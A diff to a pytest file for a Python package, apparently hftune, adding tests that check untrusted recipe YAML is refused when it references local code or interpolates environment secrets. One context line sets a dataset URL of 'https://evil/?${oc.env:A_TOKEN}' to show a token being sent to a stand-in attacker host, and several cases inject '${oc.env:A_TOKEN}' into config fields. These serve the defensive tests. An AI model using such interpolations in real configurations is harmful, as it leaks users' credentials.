@@ -1297,6 +1297,35 @@ def test_a_recipe_of_hftune_s_own_code_needs_no_trust(plain):
     assert Recipe.load(plain, trust_code=False) == Recipe.load(plain)
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        PLAIN,
+        f"{PLAIN}train: {{optimizer: torch.optim.RMSprop}}",
+        f"{PLAIN}track: {{project: '${{oc.env:A_TOKEN}}'}}",
+        "task: {type: code_beside.Own, model: null, dataset: hftune.data.demo:reviews}",
+        PLAIN.replace("hftune.data.demo:reviews", "code_beside:f"),
+        f"{PLAIN}train: {{optimizer: code_beside.f}}",
+        f"{PLAIN}train: {{schedule: code_beside.f}}",
+        f"{PLAIN}eval: {{metrics: [accuracy_of_someone]}}",
+        "task: {type: SequenceClassification, model: null, dataset: '${oc.env:A_TOKEN}'}",
+    ],
+)
+def test_a_recipe_says_whether_it_is_refused_without_trust(write, elsewhere, secret, text, monkeypatch):
+    monkeypatch.delitem(sys.modules, "code_beside", raising=False)
+    task = "from dataclasses import dataclass\nfrom hftune.tasks import SequenceClassification\n"
+    task += "@dataclass\nclass Own(SequenceClassification): pass\n"
+    write("code_beside.py", task + "def f(split): return []\n")
+    recipe = Recipe.load(write("recipe.yaml", text))
+    saved = write("saved.yaml", recipe.to_yaml())
+    try:
+        Recipe.load(saved, trust_code=False)
+    except ConfigError as error:
+        assert "trust" in str(error) and recipe.needs_trust()
+    else:
+        assert not recipe.needs_trust()
+
+
 def test_a_recipe_that_is_not_trusted_puts_no_secret_into_its_task(write, secret):
     text = "task: {type: SequenceClassification, model: null, dataset: 'https://evil/?${oc.env:A_TOKEN}'}"
     path = write("recipe.yaml", text)
